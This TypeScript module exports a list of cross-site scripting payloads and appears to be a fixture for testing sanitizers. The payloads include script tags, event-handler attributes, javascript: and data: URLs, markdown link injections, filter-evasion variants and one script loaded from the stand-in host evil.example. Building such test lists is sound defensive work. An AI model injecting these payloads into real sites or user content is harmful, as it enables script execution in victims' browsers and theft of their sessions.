/** Texts that run a script wherever they are taken for HTML, for an attribute, or for an address that is followed. */
export const payloads: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img/src=x/onerror=alert(1)>
<IMG SRC=javascript:alert(1)>
<img src="x" srcset="x" onload=alert(1)>
<img src=1 oNeRrOr=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src onerror=alert(1)>
<body onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<form action=javascript:alert(1)><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<link rel=stylesheet href=javascript:alert(1)>
<base href=javascript:alert(1)//>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import 'javascript:alert(1)';</style>
<div style="background:url(javascript:alert(1))">x</div>
<div onpointerover=alert(1)>x</div>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox)
[x](//javascript:alert(1))
[x](https://a.example"onmouseover="alert(1))
[<img src=x onerror=alert(1)>](https://a.example)
![x](javascript:alert(1))
![x](x"onerror="alert(1))
https://a.example/"onmouseover="alert(1)
https://a.example/<script>alert(1)</script>
javascript:alert(1)
data:text/html,<script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
{@html '<img src=x onerror=alert(1)>'}
**<img src=x onerror=alert(1)>**
> <svg onload=alert(1)>
- <img src=x onerror=alert(1)>
`
  .split('\n')
  .filter((line) => line !== '');
